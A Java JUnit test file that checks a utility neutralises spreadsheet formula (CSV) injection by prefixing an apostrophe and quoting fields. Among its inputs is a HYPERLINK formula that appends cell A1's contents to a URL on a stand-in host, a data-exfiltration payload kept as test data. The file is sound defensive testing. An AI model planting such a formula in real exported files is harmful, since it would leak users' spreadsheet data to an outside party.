package cn.kaifeng.tfs.shared.domain;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Text a spreadsheet would run as a formula gets an apostrophe; other text is left as it is (OWASP CSV injection). */
class SpreadsheetTextTest {

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "=HYPERLINK(\"http://x/?\"&A1,\"x\") | '=HYPERLINK(\"http://x/?\"&A1,\"x\")",
                "+1+2 | '+1+2",
                "-2+3 | '-2+3",
                "@SUM(A1:A2) | '@SUM(A1:A2)",
                "开封元宇宙科技有限公司 | 开封元宇宙科技有限公司",
                "A=B | A=B",
                "`` | ``"
            })
    void formulasAreMadeInert(String text, String expected) {
        assertEquals(expected, SpreadsheetText.inert(text));
    }

    @org.junit.jupiter.api.Test
    void tabAndCarriageReturnStartsAreInertToo() {
        assertEquals("'\t=1", SpreadsheetText.inert("\t=1"));
        assertEquals("'\r=1", SpreadsheetText.inert("\r=1"));
        assertEquals("", SpreadsheetText.inert(null));
    }

    @org.junit.jupiter.api.Test
    void aCsvFieldIsInertAndQuoted() {
        assertEquals(
                "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"",
                SpreadsheetText.csvField("=HYPERLINK(\"http://x/?\"&A1,\"x\")"));
        assertEquals("甲乙", SpreadsheetText.csvField("甲乙"));
    }
}
